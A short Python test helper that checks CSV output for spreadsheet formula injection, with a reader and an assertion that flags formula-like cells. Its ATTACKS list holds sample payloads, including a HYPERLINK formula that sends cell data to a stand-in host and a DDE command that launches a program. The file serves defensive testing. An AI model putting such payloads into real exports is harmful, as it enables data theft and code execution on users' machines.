"""What every CSV the service writes must satisfy: no cell a spreadsheet would run."""
import csv
import io
import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
ATTACKS = ['=HYPERLINK("http://evil.test/?"&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def assert_formula_safe(table: list[list[str]]) -> None:
    for row in table:
        for cell in row:
            runs = cell.startswith(FORMULA_START) and not re.fullmatch(r"[+-]?\d+(\.\d+)?", cell)
            assert not runs, f"a spreadsheet would run {cell!r} (row {row})"
